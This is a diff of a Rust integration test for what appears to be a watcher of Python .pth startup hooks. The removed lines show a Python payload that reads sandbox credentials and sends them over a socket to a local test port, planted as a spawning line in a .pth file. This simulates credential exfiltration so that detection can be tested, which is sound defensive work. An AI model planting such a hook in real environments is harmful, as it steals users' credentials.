@@ -8,34 +8,15 @@ use std::{
 
 use integration_tests::{
     Daemon, Sandbox, TcpSink, can_run,
-    payload::{READ_CREDENTIALS, spawning_pth_line, wait_marker},
+    payload::{exfiltrate, run_hook_once, spawning_pth_line},
     pthwatch_bin,
 };
 
 /// A hook child that reads the sandbox's credentials and sends them to `port`,
 /// recording the outcome in the payload marker.
 fn exfil_hook(sb: &Sandbox, port: u16) {
-    let child = format!(
-        "{READ_CREDENTIALS}
-import socket
-try:
-    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
-    s.sendall(blob)
-    r = 'sent'
-except OSError as e:
-    r = 'error %d' % e.errno
-with open(os.path.join(home, 'payload.done'), 'w') as f:
-    f.write(r)
-"
-    );
+    let child = exfiltrate(port);
     sb.pth("svc_init.pth", &spawning_pth_line(&child));
-}
-
-fn run_hook_once(sb: &Sandbox) -> Option<String> {
-    let _ = std::fs::remove_file(sb.home.join("payload.done"));
-    let (code, out) = sb.python(&["-c", "pass"]);
-    assert_eq!(code, 0, "{out}");
-    wait_marker(sb, Duration::from_secs(20))
 }
 
 #[test]
